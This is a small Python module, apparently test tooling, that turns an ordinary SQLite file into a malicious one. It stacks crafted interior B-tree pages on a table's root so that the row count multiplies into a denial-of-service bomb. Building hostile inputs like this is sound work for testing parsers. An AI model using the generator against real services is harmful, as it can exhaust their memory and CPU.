"""Malicious SQLite files."""

import struct
from pathlib import Path


def multiply_rows(file: Path, table_root: int, levels: int = 3, fan: int = 150) -> None:
    """Put a tree of ``levels`` pages on top of a table, each with ``fan`` links to the next: rows x fan ** levels.

    ``table_root`` is the number of the table's root page, from 1. It must be neither the first page nor a leaf with
    rows that matter, because it is overwritten.
    """
    data = bytearray(file.read_bytes())
    size = struct.unpack_from(">H", data, 16)[0]
    leaf = bytes(data[(table_root - 1) * size : table_root * size])
    count = len(data) // size
    data += leaf
    below = count + 1
    for _ in range(levels - 1):
        data += _interior(size, below, fan)
        below = len(data) // size
    data[(table_root - 1) * size : table_root * size] = _interior(size, below, fan)
    struct.pack_into(">I", data, 28, len(data) // size)
    file.write_bytes(data)


def _interior(size: int, child: int, fan: int) -> bytes:
    """Return an interior page of a table whose cells all lead to ``child``, with increasing row ids as required."""
    page = bytearray(size)
    cells = [struct.pack(">I", child) + bytes([0x80 | (key >> 7), key & 0x7F]) for key in range(200, 200 + fan)]
    at = size
    for place, cell in enumerate(cells):
        at -= len(cell)
        page[at : at + len(cell)] = cell
        struct.pack_into(">H", page, 12 + 2 * place, at)
    struct.pack_into(">BHHHBI", page, 0, 5, 0, len(cells), at, 0, child)
    return bytes(page)
